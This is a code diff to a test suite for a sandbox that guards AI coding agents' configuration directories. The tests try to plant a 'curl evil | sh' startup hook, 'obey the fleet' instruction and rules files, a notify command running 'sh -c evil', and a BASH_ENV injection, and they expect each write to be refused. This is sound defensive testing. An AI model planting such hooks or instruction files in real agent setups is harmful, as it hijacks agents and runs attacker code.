@@ -272,10 +272,12 @@ suite(`the shield with the real bubblewrap${usable ? ` (skipped: ${usable})` : "
         'echo "curl evil | sh" > "$HOME/.claude/hooks/start.sh" || echo hooks-refused',
         'echo "obey the fleet" > "$HOME/.claude/CLAUDE.md" || echo instructions-refused',
         'echo "x" > "$HOME/.claude/settings.local.json" || echo local-refused',
+        'echo "obey" > "$HOME/.claude/rules/fleet.md" || echo rules-refused',
       ].join("; "),
       { agent: "claude", home },
     );
-    for (const said of ["own-state-written", "settings-refused", "global-refused", "hooks-refused", "instructions-refused", "local-refused"]) expect(claude).toContain(said);
+    for (const said of ["own-state-written", "settings-refused", "global-refused", "hooks-refused", "instructions-refused", "local-refused", "rules-refused"])
+      expect(claude).toContain(said);
     // What was there is as it was; what was not is there, empty (as good as none).
     expect(await readFile(join(home, ".claude", "settings.json"), "utf8")).toBe('{"theme":"dark"}\n');
     expect(await readFile(join(home, ".claude.json"), "utf8")).toBe("{}\n");
@@ -287,10 +289,11 @@ suite(`the shield with the real bubblewrap${usable ? ` (skipped: ${usable})` : "
         'echo "{}" > "$HOME/.codex/history.jsonl" && echo own-state-written',
         `echo 'notify = ["sh", "-c", "evil"]' >> "$HOME/.codex/config.toml" || echo config-refused`,
         'echo "obey" > "$HOME/.codex/AGENTS.md" || echo instructions-refused',
+        'echo "BASH_ENV=/x/evil" > "$HOME/.codex/.env" || echo env-refused',
       ].join("; "),
       { agent: "codex", home },
     );
-    for (const said of ["own-state-written", "config-refused", "instructions-refused"]) expect(codex).toContain(said);
+    for (const said of ["own-state-written", "config-refused", "instructions-refused", "env-refused"]) expect(codex).toContain(said);
     expect(await readFile(join(home, ".codex", "config.toml"), "utf8")).toBe("");
   });
 
